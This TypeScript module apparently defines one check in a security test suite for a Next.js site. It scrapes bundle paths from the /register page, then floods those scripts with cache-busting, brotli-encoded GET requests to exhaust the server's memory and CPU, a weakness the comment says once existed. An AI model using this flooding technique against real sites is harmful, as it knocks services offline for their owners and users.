import { type Attack, floodWithGets, readPage } from '../attack';

/** Item 1: each query once made a copy of the script, compressed anew and kept. */
export const scriptQueries: Attack = async (site) => {
  const page = await readPage(site, '/register');
  const scripts = [...page.matchAll(/"(\/_next\/static\/[^"]+\.js)/g)].map(([, path = '']) => path);
  const br = { 'accept-encoding': 'br' };
  await floodWithGets(site, (n) => `${scripts[n % scripts.length]}?x=${n}`, br);
};
